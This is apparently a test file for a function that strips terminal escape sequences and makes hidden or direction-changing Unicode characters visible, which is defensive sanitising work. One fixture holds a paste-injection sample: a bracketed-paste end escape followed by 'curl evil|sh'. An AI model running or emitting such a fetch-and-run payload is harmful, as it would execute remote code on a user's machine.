// cspell:ignore שלום مرحبا क्षि خواهم feff
import {getVisibleText} from './visibleText';

const e = String.fromCharCode(27);

test.each([
  ['colors', `${e}[1;31mA${e}[0m`, 'A'],
  ['the end of a paste', `${e}[201~\ncurl evil|sh`, '[201~\ncurl evil|sh'],
  ['a CSI of one character', '\u009b31mA', '31mA'],
  ['the clipboard of OSC 52', `a${e}]52;c;QQ==\u0007b`, 'a]52;c;QQ==b'],
  ['an escape at the end', `a${e}`, 'a'],
  ['NUL, backspace, carriage return, DEL', 'a\0b\bc\r\nd\u007f', 'abc\nd'],
])('removes the control characters of %s', (_, text, visible) => {
  expect(getVisibleText(text)).toBe(visible);
});

test.each([
  ['an override of direction', 'a\u202eb', 'a\\u{202e}b'],
  ['isolates and marks of direction', '\u2066\u200f\u061c', '\\u{2066}\\u{200f}\\u{61c}'],
  ['spaces without width', 'a\u200bb\ufeff\u2060', 'a\\u{200b}b\\u{feff}\\u{2060}'],
  ['a soft hyphen', 'a\u00adb', 'a\\u{ad}b'],
  ['letters that look like nothing', 'a\u3164', 'a\\u{3164}'],
  ['tags', 'a\u{e0041}', 'a\\u{e0041}'],
])('writes %s as in code', (_, text, visible) => {
  expect(getVisibleText(text)).toBe(visible);
});

test.each([
  ['text', "<b>&amp;</b>\n\t'é' 你好 שלום مرحبا"],
  ['combining marks', 'e\u0301 ก็ क्षि'],
  ['emoji with joiners, variants and skin', '👩\u200d👩\u200d👧 ❤\ufe0f 👍🏽 🏳\ufe0f\u200d🌈 🇨🇭'],
  ['joiners of Persian', 'می\u200cخواهم'],
])('keeps %s', (_, text) => {
  expect(getVisibleText(text)).toBe(text);
});

test('can keep colors', () => {
  expect(getVisibleText(`${e}[1;31mA${e}[2J${e}[0m\u202e`, true)).toBe(`${e}[1;31mA[2J${e}[0m\\u{202e}`);
});
